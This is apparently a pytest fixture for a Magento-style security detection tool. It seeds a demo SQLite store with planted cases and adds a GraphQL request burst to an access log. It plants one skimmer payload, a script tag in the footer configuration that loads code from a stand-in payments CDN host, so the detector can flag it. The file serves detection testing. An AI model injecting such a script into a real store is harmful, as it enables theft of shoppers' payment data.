"""A SQLite demo store with every detection category planted, its access log (with a GraphQL burst added), the
allowlist, and what the rules must report."""

from __future__ import annotations

import sqlite3
from datetime import date, datetime, timedelta

import pytest

from include.demo.access_log import combined, write_access_log
from include.demo.store import SeedConfig, seed_store
from include.demo.store.detections import ALLOWLIST, incident_day

AS_OF = date(2026, 11, 10)
SINCE = "2026-11-11T00:00:00+00:00"
GRAPHQL_CLIENT = "203.0.113.90"
CONFIG_SKIMMER = "<script>var s=document.createElement('script');s.src='https://js-cdn-payments.example/c.js';</script>"


@pytest.fixture(scope="session")
def planted(tmp_path_factory) -> dict:
    root = tmp_path_factory.mktemp("detection")
    store = root / "store.db"
    manifest = seed_store(f"sqlite:///{store}", SeedConfig(customers=120, violations=0.02, seed=11, as_of=AS_OF, detections=True))
    day = incident_day(datetime.combine(AS_OF, datetime.min.time()))
    with sqlite3.connect(store) as db:  # the configuration skimmer: a script-bearing path the demo does not plant
        db.execute(
            "INSERT INTO core_config_data (config_id, scope, scope_id, path, value, updated_at)"
            " VALUES (?, 'default', 0, ?, ?, ?)",
            (900, "design/footer/absolute_footer", CONFIG_SKIMMER, str(day + timedelta(hours=6))),
        )
    with sqlite3.connect(store) as db:  # fold the write-ahead log into the file, so copies of it are complete
        db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    orders = sqlite3.connect(store).execute("SELECT COUNT(*) FROM sales_order").fetchone()[0]
    log = write_access_log(root / "access.log", as_of=AS_OF, customers=120, orders=orders, lines=4000)
    with log.path.open("a") as handle:  # a GraphQL burst from one client (after the rest of the log)
        for i in range(320):
            moment = day + timedelta(hours=22, seconds=i)
            handle.write(combined(GRAPHQL_CLIENT, moment, "POST", "/graphql", 200) + "\n")
    allowlist = root / "allowlist.txt"
    allowlist.write_text("\n".join(ALLOWLIST) + "\n")
    expected = {rule: set(groups) for rule, groups in manifest.detections.items()}
    for rule, clients in log.detections.items():
        expected.setdefault(rule, set()).update(clients)
    expected["magento_config_script_not_allowlisted"] = {"core_config_data:900"}
    expected["magento_graphql_enumeration"] = {GRAPHQL_CLIENT}
    return {
        "store": store,
        "url": f"sqlite:///{store}",
        "log": log,
        "allowlist": allowlist,
        "expected": expected,
        "manifest": manifest,
        "root": root,
    }
